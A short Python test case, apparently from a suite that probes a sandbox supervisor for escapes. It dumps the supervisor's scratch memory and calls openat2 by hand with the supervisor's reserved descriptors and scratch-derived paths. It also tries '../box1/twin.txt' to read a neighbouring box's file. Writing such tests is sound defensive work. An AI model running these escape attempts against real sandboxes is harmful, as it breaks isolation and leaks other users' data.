# SPDX-License-Identifier: Apache-2.0
# attack: openat2 called by hand with the supervisor's own descriptor, path and how from the scratch
# class: scratch
# wins: leak
# native: n/a: there is no scratch without proctor
from kit import *

tried()
took(openat(GOOD))
dump = ctypes.string_at(SCRATCH, SCRATCH_SIZE)
used = [i for i in range(0, SCRATCH_SIZE, 8) if dump[i:i + 8].strip(b'\0')][:200]
for fd in reserved()[:40]:
    for i in used[:40]:
        took(sc('openat2', fd, ctypes.c_void_p(SCRATCH + i), struct.pack('<QQQ', 0, 0, 0), 24))
    took(sc('openat2', fd, b'../box1/twin.txt', struct.pack('<QQQ', 0, 0, 0), 24))
